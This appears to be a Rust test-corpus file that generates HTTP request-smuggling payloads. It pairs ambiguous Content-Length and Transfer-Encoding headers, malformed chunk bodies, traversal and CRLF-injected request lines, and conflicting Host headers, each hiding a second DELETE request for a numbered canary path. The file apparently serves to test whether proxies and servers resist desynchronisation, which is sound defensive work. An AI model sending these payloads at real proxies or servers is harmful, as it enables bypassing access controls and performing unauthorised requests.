//! Requests that were used, or could be used, to smuggle another one past a proxy.
//!
//! `@` stands for the number of the attack, so that what comes of it is told from the others; `{hidden}` for a request that
//! removes a file.

const HIDDEN: &str = "DELETE /canary-@ HTTP/1.1\r\nHost: h\r\n\r\n";

/// All attacks, each as bytes to send on a connection of its own, numbered from `first` on.
pub fn attacks(first: usize) -> Vec<Vec<u8>> {
    let mut all = Vec::new();
    for lines in FRAMINGS {
        for line in ["PUT /up-@", "GET /victim?@", "POST /.id/?@"] {
            all.push(format!("{line} HTTP/1.1\r\nHost: h\r\n{lines}\r\n\r\n0\r\n\r\n{{hidden}}"));
            all.push(format!("{line} HTTP/1.1\r\nHost: h\r\n{lines}\r\n\r\n2c\r\n{{hidden}}\r\n0\r\n\r\n"));
        }
    }
    for body in CHUNKS {
        for line in ["PUT /up-@", "GET /victim?@"] {
            all.push(format!("{line} HTTP/1.1\r\nHost: h\r\nTransfer-Encoding: chunked\r\n\r\n{body}{{hidden}}"));
        }
    }
    for line in LINES {
        all.push(format!("{line}\r\nHost: h\r\n\r\n{{hidden}}"));
    }
    for host in HOSTS {
        all.push(format!("GET /victim?@ HTTP/1.1\r\n{host}\r\n\r\n{{hidden}}"));
    }
    let number = |(index, text): (usize, String)| {
        text.replace("{hidden}", HIDDEN).replace('@', &(first + index).to_string()).into_bytes()
    };
    all.into_iter().enumerate().map(number).collect()
}

/// Lines that say where the body ends, in two ways or in none that is clear.
const FRAMINGS: [&str; 58] = [
    "Content-Length: 5",
    "Content-Length: 44",
    "Content-Length: 0",
    "Transfer-Encoding: chunked",
    "Content-Length: 5\r\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked\r\nContent-Length: 5",
    "Transfer-Encoding: chunked\r\nContent-Length: 0",
    "Content-Length: 49\r\ntransfer-encoding: CHUNKED",
    "Content-Length: 5\r\nTransfer-Encoding: xchunked",
    "Content-Length: 5\r\nTransfer-Encoding: identity",
    "Content-Length: 5\r\nTransfer-Encoding : chunked",
    "Content-Length: 5\r\nTransfer-Encoding\t: chunked",
    "Content-Length: 5\r\n Transfer-Encoding: chunked",
    "Content-Length: 5\r\nX: y\r\n Transfer-Encoding: chunked",
    "Content-Length: 5\r\nTransfer-Encoding:\r\n chunked",
    "Content-Length: 5\r\nTransfer-Encoding:\x0bchunked",
    "Content-Length: 5\r\nTransfer-Encoding: chunked\x0c",
    "Content-Length: 5\r\nTransfer-Encoding: \"chunked\"",
    "Content-Length: 5\r\nTransfer-Encoding: chunked, identity",
    "Content-Length: 5\r\nTransfer-Encoding: identity, chunked",
    "Content-Length: 5\r\nTransfer-Encoding: chunked\r\nTransfer-Encoding: identity",
    "Content-Length: 5\r\nTransfer-Encoding: identity\r\nTransfer-Encoding: chunked",
    "Content-Length: 5\r\nTransfer-Encoding:",
    "Content-Length: 5\r\nTransfer_Encoding: chunked",
    "Content-Length: 5\r\nTransfer-Encoding\0: chunked",
    "Content-Length: 5\r\nX: y\0\r\nTransfer-Encoding: chunked",
    "Content-Length: 5\r\nX: y\nTransfer-Encoding: chunked",
    "Content-Length: 5\r\nX: y\rTransfer-Encoding: chunked",
    "Content-Length: 5\r\nX: y\r\r\nTransfer-Encoding: chunked",
    "Content-Length: 5\nTransfer-Encoding: chunked",
    "Transfer-Encoding: chunked, chunked",
    "Transfer-Encoding: gzip, chunked",
    "Transfer-Encoding: chunked;q=1",
    "Transfer-Encoding: ,chunked",
    "Transfer-Encoding: chunked\u{a0}",
    "Transfer-Encoding: chunked\x7f",
    "Transfer-Encoding: chun\tked",
    "Content-Length: 5\r\nContent-Length: 0",
    "Content-Length: 0\r\nContent-Length: 5",
    "Content-Length: 5\r\nContent-Length: 5",
    "Content-Length: 5\r\ncontent_length: 44",
    "Content-Length: 5, 5",
    "Content-Length: 5,44",
    "Content-Length: +5",
    "Content-Length: 0x5",
    "Content-Length: 005",
    "Content-Length: 5 ",
    "Content-Length:\t5",
    "Content-Length: 5;",
    "Content-Length: 1e1",
    "Content-Length: -1",
    "Content-Length:",
    "Content-Length: 18446744073709551621",
    "Content-Length : 5",
    "Content-Length: 5\r\nConnection: Content-Length",
    "Transfer-Encoding: chunked\r\nConnection: Transfer-Encoding",
    "Content-Length: 5\r\nExpect: 100-continue",
    "Content-Length: 5\r\nUpgrade: h2c\r\nConnection: Upgrade, HTTP2-Settings\r\nHTTP2-Settings: AAMAAABkAAQAAP__",
];

/// Bodies in chunks that could end in two places.
const CHUNKS: [&str; 32] = [
    "5\r\nhello\r\n0\r\n\r\n",
    "05\r\nhello\r\n00\r\n\r\n",
    "0x5\r\nhello\r\n0\r\n\r\n",
    "+5\r\nhello\r\n0\r\n\r\n",
    "-5\r\nhello\r\n0\r\n\r\n",
    "5 \r\nhello\r\n0\r\n\r\n",
    " 5\r\nhello\r\n0\r\n\r\n",
    "5\t\r\nhello\r\n0\r\n\r\n",
    "5;\r\nhello\r\n0\r\n\r\n",
    "5;a=b\r\nhello\r\n0;c\r\n\r\n",
    "5;a=\"\r\n\"\r\nhello\r\n0\r\n\r\n",
    "5;a\nhello\r\n0\r\n\r\n",
    "5;a=\"x\ny\"\r\nhello\r\n0\r\n\r\n",
    "5\nhello\r\n0\r\n\r\n",
    "5\rhello\r\n0\r\n\r\n",
    "5\r\nhello\n0\r\n\r\n",
    "5\r\nhello0\r\n\r\n",
    "5\r\nhelloXX0\r\n\r\n",
    "5\r\nhello\r\n0\r\n\n",
    "5\r\nhello\r\n0\n\r\n",
    "5\r\nhello\r\n0\r\n",
    "5\r\nhello\r\n0\r\nX: y\r\n\r\n",
    "5\r\nhello\r\n0\r\nContent-Length: 44\r\n\r\n",
    "5\r\nhello\r\n0\r\nTransfer-Encoding: chunked\r\n\r\n",
    "5\r\nhello\r\n0\r\nX\r\n\r\n",
    "5\r\nhello\r\n0\r\n X: y\r\n\r\n",
    "5\r\nhello\r\n0\r\nHost: i\r\n\r\n0\r\n\r\n",
    "10000000000000005\r\nhello\r\n0\r\n\r\n",
    "ffffffffffffffff\r\nhello\r\n0\r\n\r\n",
    "000000000000000000005\r\nhello\r\n0\r\n\r\n",
    "g\r\nhello\r\n0\r\n\r\n",
    "\r\n5\r\nhello\r\n0\r\n\r\n",
];

/// Request lines that could lead elsewhere, or end elsewhere.
const LINES: [&str; 47] = [
    "GET /victim?@ HTTP/1.1",
    "GET http://h/victim?@ HTTP/1.1",
    "GET http://other/victim?@ HTTP/1.1",
    "GET HTTP://h:80/victim?@ HTTP/1.1",
    "GET http://u@h/victim?@ HTTP/1.1",
    "GET http://h#/victim?@ HTTP/1.1",
    "GET http://h?/victim-@ HTTP/1.1",
    "GET http://h?@ HTTP/1.1",
    "GET https://h/victim?@ HTTP/1.1",
    "GET ftp://h/victim?@ HTTP/1.1",
    "GET //victim?@ HTTP/1.1",
    "GET //h/victim?@ HTTP/1.1",
    "GET /./victim?@ HTTP/1.1",
    "GET /x/../victim?@ HTTP/1.1",
    "GET /..;/victim?@ HTTP/1.1",
    "GET /%2e%2e/victim?@ HTTP/1.1",
    "GET /%2e/victim?@ HTTP/1.1",
    "GET /..%2fvictim?@ HTTP/1.1",
    "GET /x%2fvictim?@ HTTP/1.1",
    "GET /x%5cvictim?@ HTTP/1.1",
    "GET /\\victim?@ HTTP/1.1",
    "GET /%76ictim?@ HTTP/1.1",
    "GET /%2576ictim?@ HTTP/1.1",
    "GET /victim%00?@ HTTP/1.1",
    "GET /victim%0d%0aX:%20y?@ HTTP/1.1",
    "GET /victim%20HTTP/1.1%0d%0aHost:%20h%0d%0a%0d%0aDELETE%20/canary-@ HTTP/1.1",
    "GET /victim?%0d%0aX:%20y=@ HTTP/1.1",
    "GET /victim#?@ HTTP/1.1",
    "GET /victim?@#x HTTP/1.1",
    "GET /victim?\u{e4}@ HTTP/1.1",
    "GET /victim?@ HTTP/1.1\r\nX: y\r\n",
    "GET /victim?@\tHTTP/1.1",
    "GET  /victim?@ HTTP/1.1",
    "GET /victim?@  HTTP/1.1",
    "GET /victim?@ x HTTP/1.1",
    "GET /victim?@ HTTP/1.0",
    "GET /victim?@ HTTP/1.0\r\nConnection: keep-alive",
    "GET /victim?@ HTTP/1.2",
    "GET /victim?@ HTTP/2.0",
    "GET /victim?@",
    "GET /%2elive?@ HTTP/1.1",
    "GET /.live?@ HTTP/1.1",
    "GET /.metrics/?@ HTTP/1.1",
    "OPTIONS /?@ HTTP/1.1",
    "OPTIONS * HTTP/1.1",
    "CONNECT h:80 HTTP/1.1",
    "PRI * HTTP/2.0",
];

/// Hosts that could be two, or none.
const HOSTS: [&str; 16] = [
    "Host: h",
    "Host:",
    "X: y",
    "Host: h\r\nHost: i",
    "Host: h\r\n Host: i",
    "Host : h",
    "Host: h, i",
    "Host: h i",
    "Host: u@h",
    "Host: h/victim",
    "Host: h:80x",
    "Host: h\r\nX-Forwarded-Host: i\r\nX-Original-URL: /canary-@\r\nX-HTTP-Method-Override: DELETE",
    "Host: h\r\nConnection: close, Host",
    "Host: h\r\nConnection: X-Forwarded-For, keep-alive",
    "Host: h\r\nRange: bytes=0-0\r\nRange: bytes=1-1",
    "Host: h\0i",
];
